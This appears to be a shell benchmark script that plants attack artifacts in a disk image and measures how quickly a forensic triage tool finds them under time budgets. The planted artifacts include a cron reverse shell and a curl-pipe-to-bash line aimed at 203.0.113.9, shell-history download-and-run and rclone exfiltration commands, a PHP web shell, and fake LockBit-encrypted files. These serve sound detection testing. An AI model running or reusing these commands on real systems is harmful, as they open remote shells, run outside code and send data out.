#!/bin/sh
# anytime.sh [GB] - how soon the planted findings are known: an ext4 image of the machine's own files with an attack planted in it, examined whole
# and then with one --budget after the other. Prints the share of the high and critical findings that a bundle of that budget has. Attack samples
# (event logs, notes) come from TRIAGE_CORPUS where it is; the rest is made here.
set -eu
cd "$(dirname "$0")/../.."
TRIAGE=${TRIAGE:-$(pwd)/build/triage}
corpus=${TRIAGE_CORPUS:-$(pwd)/../shared/corpus}
tmp=$(mktemp -d "${TMPDIR:-/var/tmp}/triage-anytime.XXXXXX")
trap 'rm -rf "$tmp"' EXIT
root=$tmp/root
mkdir -p "$root"
python3 - "$root" "${1:-2}" <<'P'
import os, sys
root, limit = sys.argv[1], float(sys.argv[2]) * 1e9
found = []
for base, dirs, files in os.walk("/usr"):
    dirs.sort()
    found += [os.path.join(base, f) for f in sorted(files) if os.path.isfile(os.path.join(base, f)) and not os.path.islink(os.path.join(base, f))]
sizes = [os.path.getsize(f) for f in found]
step, at, taken = max(1.0, sum(sizes) / limit), 0.0, 0
for i, f in enumerate(found):
    if i < at:
        continue
    at += step
    if taken + sizes[i] > limit:
        continue
    taken += sizes[i]
    os.makedirs(os.path.dirname(root + f), exist_ok=True)
    try:
        os.link(f, root + f)
    except OSError:
        import shutil
        shutil.copyfile(f, root + f)
P
# what was planted: autostart, shell history, a web shell, an encrypted share with its note, event logs
mkdir -p "$root/etc/cron.d" "$root/root/.ssh" "$root/var/www/html/uploads" "$root/srv/share/Finance" "$root/srv/share/People" "$root/Windows/System32/winevt/Logs" "$root/tmp"
printf '* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' > "$root/etc/cron.d/sync"
printf '#!/bin/sh\ncurl -fsSL http://203.0.113.9/x.sh | bash\n' > "$root/etc/rc.local"
printf 'id\nwget http://203.0.113.9/tool -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x\nhistory -c\nrclone copy /srv/share mega:loot\nchattr +i /tmp/.x\n' > "$root/root/.bash_history"
printf '<?php @eval(base64_decode($_POST["c"])); system($_GET["cmd"]); ?>\n' > "$root/var/www/html/uploads/logo.php"
for n in $(seq 1 40); do head -c 60000 /dev/urandom > "$root/srv/share/Finance/budget-$n.xlsx.lockbit"; head -c 40000 /dev/urandom > "$root/srv/share/People/list-$n.docx.lockbit"; done
planted_logs=0
if [ -d "$corpus/evtx" ]; then
	for f in Defense_Evasion/DE_104_system_log_cleared Credential_Access/CA_DCSync_4662 Lateral_Movement/LM_PsExec_security_5145 Credential_Access/babyshark_mimikatz_powershell \
		Execution/temp_scheduled_task_4698_4699 emotet/exec_emotet_sysmon_1 Privilege_Escalation/System_7045_namedpipe_privesc Persistence/persistence_hidden_local_account_sysmon; do
		[ -f "$corpus/evtx/$f.evtx" ] && cp "$corpus/evtx/$f.evtx" "$root/Windows/System32/winevt/Logs/" && planted_logs=$((planted_logs + 1))
	done
	find "$corpus/ransomnotes" -type f -iname '*lockbit*' | head -n 1 | while read -r note; do cp "$note" "$root/srv/share/README_RESTORE_FILES.txt"; done
fi
bytes=$(du -s --apparent-size -B1 "$root" | cut -f1)
mke2fs -q -F -t ext4 -d "$root" "$tmp/image" "$((bytes * 13 / 10 / 1000000 + 200))M"
rm -rf "$root"
cat "$tmp/image" > /dev/null
# run NAME OPTIONS...: its high and critical findings; the seconds that it took
run() {
	name=$1; shift
	begin=$(date +%s.%N)
	"$TRIAGE" run -q --no-image-hash -o "$tmp/$name" "$@" "$tmp/image" > /dev/null 2>&1 || true
	took=$(echo "$(date +%s.%N) - $begin" | bc)
	sqlite3 -batch "$tmp/$name/data/case.db" "SELECT rule || '|' || kind || '|' || coalesce(host, '') || '|' || title FROM findings WHERE severity IN ('high', 'critical') ORDER BY 1" | sort -u > "$tmp/$name.found"
	sqlite3 -batch "$tmp/$name/data/case.db" "SELECT printf('%.1f', 100.0 * sum(bytes_examined) / sum(bytes_total)) FROM coverage WHERE what LIKE 'content%' OR what LIKE 'filesystem%'" > "$tmp/$name.share"
	rm -rf "${tmp:?}/$name"
}
run whole
all=$(cut -d'|' -f1,2 "$tmp/whole.found" | sort -u | wc -l)
echo "image: $((bytes / 1000000)) MB; $planted_logs event logs planted; whole run: $(printf %.0f "$took") s, $all high or critical findings (by rule and kind)"
[ "$all" -gt 0 ] || { echo "no finding: nothing to measure"; exit 1; }
printf 'budget_s\ttook_s\tfindings\tshare\n'
for budget in ${BUDGETS:-1 2 3 5 8 12 20}; do
	run "b$budget" --budget "${budget}s"
	have=$(cut -d'|' -f1,2 "$tmp/b$budget.found" | sort -u > "$tmp/have"; cut -d'|' -f1,2 "$tmp/whole.found" | sort -u | comm -12 - "$tmp/have" | wc -l)
	printf '%s\t%.1f\t%s\t%s %%\n' "$budget" "$took" "$have" $((have * 100 / all))
done
